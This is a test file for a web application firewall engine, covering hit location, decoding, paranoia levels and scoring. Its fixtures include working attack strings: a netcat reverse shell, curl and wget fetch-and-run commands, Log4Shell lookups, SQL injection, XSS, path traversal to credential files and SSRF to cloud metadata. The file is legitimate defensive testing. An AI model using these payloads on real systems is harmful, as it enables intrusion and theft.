/**
 * The WAF engine (issue 5, point 3) over HTTP request views and device payloads: where hits are
 * located (query, header, cookie, form field, JSON path), decoding (double percent-encoding,
 * overlong UTF-8, JSON escapes), paranoia gating, anomaly scoring against the threshold, and the
 * per-payload bounds.
 */
import { describe, expect, it } from 'vitest';
import { Waf } from '../../src/shield/waf/engine.ts';
import type { HttpRequestView, ParanoiaLevel, WafVerdict } from '../../src/shield/waf/types.ts';

const waf = (paranoia: ParanoiaLevel = 1, threshold = 5): Waf => new Waf({ paranoia, threshold });
const get = (path: string, query = '', headers: HttpRequestView['headers'] = {}): HttpRequestView => ({ method: 'GET', path, query, headers, body: null });
const ids = (v: WafVerdict): string[] => v.hits.map((h) => h.ruleId).sort();
const at = (v: WafVerdict): string[] => [...new Set(v.hits.map((h) => h.location))].sort();
const json = (o: unknown): Buffer => Buffer.from(JSON.stringify(o));

describe('WAF over HTTP requests', () => {
  it('locates hits in the path, query values and names, headers, cookies and form fields', () => {
    const w = waf();
    expect(at(w.inspectHttp(get('/files/..%2f..%2fetc/passwd')))).toEqual(['path']);
    expect(at(w.inspectHttp(get('/search', `page=2&q=${encodeURIComponent("' OR 1=1--")}`)))).toEqual(['query:q']);
    expect(at(w.inspectHttp(get('/search', `${encodeURIComponent('<script>alert(1)</script>')}=1`)))).toEqual(['query-name:<script>alert(1)</script>']);
    expect(at(w.inspectHttp(get('/', '', { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' })))).toEqual(['header:user-agent']);
    expect(at(w.inspectHttp(get('/', '', { cookie: `sid=abc; theme=${encodeURIComponent('<svg onload=alert(1)>')}` })))).toEqual(['cookie:theme']);
    const form: HttpRequestView = { method: 'POST', path: '/api/notes', query: '', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('title=hello&text=ok%3B+cat+%2Fetc%2Fshadow') };
    expect(at(waf().inspectHttp(form))).toEqual(['body:text']);
    const jsonBody: HttpRequestView = { method: 'POST', path: '/api/x', query: '', headers: {}, contentType: 'application/json', body: json({ a: { url: 'http://169.254.169.254/latest/meta-data/' } }) };
    expect(at(waf().inspectHttp(jsonBody))).toEqual(['json:$.a.url']);
  });

  it('decodes double and triple percent-encoding and overlong UTF-8', () => {
    for (const q of ['..%252f..%252f..%252fetc%252fpasswd', '%25252e%25252e%25252fboot.ini', '..%c0%af..%c0%afwindows%c0%afwin.ini', '%2e%2e%5c%2e%2e%5cwinnt%5csystem32']) {
      const v = waf().inspectHttp(get('/download', `file=${q}`));
      expect(v.hits.some((h) => h.category === 'lfi' && h.location === 'query:file'), q).toBe(true);
    }
    expect(waf().inspectHttp(get('/a%20b/c', 'x=%E2%82%AC'))).toMatchObject({ score: 0, hits: [] });
  });

  it('does not flag ordinary requests, and SSRF rules ignore a Referer naming localhost', () => {
    const v = waf().inspectHttp(get('/api/v1/devices', 'page=2&sort=-created_at&filter%5Bsite%5D=Warehouse%20B&from=2026-11-01T00:00:00Z', {
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
      referer: 'http://localhost:8080/dashboard?tab=devices', cookie: 'sid=4f2a9c; lang=fr-FR',
    }));
    expect(v).toEqual({ score: 0, hits: [], anomalous: false });
  });
});

describe('WAF over device payloads', () => {
  it('inspects each JSON string value and key, located by JSON path', () => {
    const v = waf().inspectPayload(json({ deviceId: 'cam-17', t: 21.5, ok: true, a: { b: ['x', 'fine', '; cat /etc/passwd'] }, 'we ird': '../../etc/shadow', ['<script>alert(1)</script>']: 1 }));
    expect(at(v)).toEqual(['json:$.a.b[2]', 'json:$["<script>alert(1)</script>"](key)', 'json:$["we ird"]']);
    expect(v.hits.find((h) => h.location === 'json:$.a.b[2]')).toMatchObject({ ruleId: '932100', category: 'rce', severity: 'critical', paranoia: 1, match: '; cat /etc/passwd' });
  });

  it('decodes JSON escapes before inspecting', () => {
    const raw = Buffer.from('{"note":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e","n":1}');
    expect(at(waf().inspectPayload(raw))).toEqual(['json:$.note']);
  });

  it('inspects non-JSON UTF-8 text as text, and skips binary', () => {
    expect(at(waf().inspectPayload(Buffer.from('temp=21;$(curl http://x.test/a|sh)')))).toEqual(['payload']);
    expect(at(waf().inspectPayload(Buffer.from('{"broken": "; cat /etc/passwd"')))).toEqual(['json:$.broken', 'payload']);
    const binary = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x81]), Buffer.from('; cat /etc/passwd')]);
    expect(waf().inspectPayload(binary).hits).toEqual([]);
  });

  it('leaves realistic telemetry alone', () => {
    const v = waf().inspectPayload(json({
      deviceId: 'env-0042', ts: '2026-11-27T12:06:41.158Z', temperature: -3.5, battery: { level: 87 },
      snapshot: 'https://media.example.net/cam-017/2026/12/01/0930.jpg', rtsp: 'rtsp://192.168.10.20:554/stream1',
      note: "It's fine; the spike at 03:00 was the defrost cycle (see ticket #4411) -- J. O'Neil", customer: 'Dupont & Fils',
    }));
    expect(v.hits).toEqual([]);
  });
});

describe('rule families', () => {
  const hit = (s: string, pl: ParanoiaLevel = 1): string[] => ids(waf(pl).inspectString(s, 'x'));
  it('command injection: separators, substitution, IFS, PowerShell; prose passes', () => {
    for (const s of ['; cat /etc/passwd', '| nc 198.51.100.7 4444 -e /bin/sh', '$(whoami)', '`id`', '&& wget http://198.51.100.7/x.sh', 'a;cat${IFS}/etc/passwd', "127.0.0.1;w'h'o'am'i", '8.8.8.8|c\\at /etc/hosts', 'x || ping -c 3 127.0.0.1', 'cmd.exe /c dir', 'powershell -nop -enc SQBFAFgA', '${jndi:ldap://198.51.100.7/a}']) {
      expect(hit(s).some((id) => id.startsWith('932')), s).toBe(true);
    }
    for (const s of ['Tom & Jerry went home; cat is cute', 'Reset counter || restart service if the queue stays > 1000', 'Q&A session with the installer; bring the spare antenna', 'ok; sleep 300 s then wake']) {
      expect(hit(s), s).toEqual([]);
    }
  });
  it('SSRF: loopback and metadata in every address form; private ranges only from PL3', () => {
    for (const s of ['http://2130706433/', 'http://0x7f.0.0.1/', 'http://0177.0.0.1/', 'http://127.1/', 'http://[::ffff:127.0.0.1]/', 'http://[0:0:0:0:0:0:0:1]/', 'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1.nip.io/', 'gopher://10.0.0.5:6379/_INFO', 'dict://x.test:11211/stats']) {
      expect(hit(s), s).toContain('934100');
    }
    expect(hit('http://192.168.1.10/admin')).toEqual([]);
    expect(hit('http://192.168.1.10/admin', 2)).toEqual([]);
    expect(hit('http://192.168.1.10/admin', 3)).toContain('934200');
    expect(hit('https://example.com/a?b=c')).toEqual([]);
  });
  it('LFI: traversal in its encodings, OS files, wrappers, NUL byte', () => {
    for (const s of ['....//....//etc/passwd', '..\\..\\windows\\win.ini', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/shadow', '../../app/config.php\u0000.png', '0x2e0x2e0x2fetc/passwd', '\uff0e\uff0e/\uff0e\uff0e/etc/passwd']) {
      expect(hit(s).some((id) => id.startsWith('930')), s).toBe(true);
    }
    expect(hit('/media/cam-017/clips/20261201.mp4')).toEqual([]);
  });
});

describe('code injection and pathological input', () => {
  it('folds Log4Shell nested lookups', () => {
    for (const s of ['${jndi:ldap://198.51.100.7/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}', '${JnDi:dns://x}']) {
      expect(ids(waf().inspectString(s, 'x')), s).toContain('932130');
    }
    expect(ids(waf().inspectString('price ${amount} (net)', 'x'))).toEqual([]);
  });

  it('stays linear on long runs of the characters its patterns repeat', () => {
    const w = new Waf({ paranoia: 4, threshold: 5 }, { limits: { maxValueChars: 1 << 17, maxInspectChars: 1 << 22 } });
    const t0 = process.hrtime.bigint();
    for (const s of ['.'.repeat(65536), '${'.repeat(8000), '${a:'.repeat(8000), '; a'.repeat(5000), 'a/'.repeat(8000), 'x'.repeat(65536)]) {
      w.inspectPayload(Buffer.from(JSON.stringify({ s })));
    }
    // Quadratic backtracking on the 64 KiB run of dots alone took ≈ 9 s before it was fixed.
    expect(Number(process.hrtime.bigint() - t0) / 1e6).toBeLessThan(2000);
  });
});

describe('paranoia levels and scoring', () => {
  it('runs a rule only at or above its paranoia level', () => {
    const s = 'wget http://198.51.100.7/payload';
    expect(ids(waf(1).inspectString(s, 'x'))).toEqual([]);
    expect(ids(waf(2).inspectString(s, 'x'))).toContain('932200');
    expect(waf(4).activeRules().length).toBeGreaterThan(waf(1).activeRules().length);
    expect(waf(1).activeRules().every((r) => r.paranoia === 1)).toBe(true);
  });

  it('sums severity scores and compares with the threshold', () => {
    const one = waf(1, 5).inspectString('; cat /etc/passwd', 'x'); // 932100 + 930120: two criticals
    expect(one.score).toBe(10);
    expect(one.anomalous).toBe(true);
    expect(waf(1, 11).inspectString('; cat /etc/passwd', 'x').anomalous).toBe(false);
    // A PL3 warning (3) alone stays under the default threshold; PL4 adds a notice (2).
    const v3 = waf(3, 5).inspectString('5 < 7 > 3', 'x');
    expect(v3).toMatchObject({ score: 3, anomalous: false });
    expect(v3.hits[0]).toMatchObject({ ruleId: '941300', severity: 'warning', paranoia: 3 });
  });

  it('bounds the work per payload and says so', () => {
    const w = new Waf({ paranoia: 1, threshold: 5 }, { limits: { maxInspectChars: 1000, maxDepth: 8 } });
    const many = json(Array.from({ length: 200 }, (_, i) => `value number ${i} (ok)`));
    expect(w.inspectPayload(many).hits.map((h) => h.ruleId)).toEqual(['920500']);
    let deep: unknown = '; cat /etc/passwd';
    for (let i = 0; i < 20; i++) deep = { d: deep };
    const v = w.inspectPayload(json(deep));
    expect(v.hits.map((h) => h.ruleId)).toEqual(['920500']);
    expect(v.hits[0]?.location).toBe('json:$.d.d.d.d.d.d.d.d');
  });
});
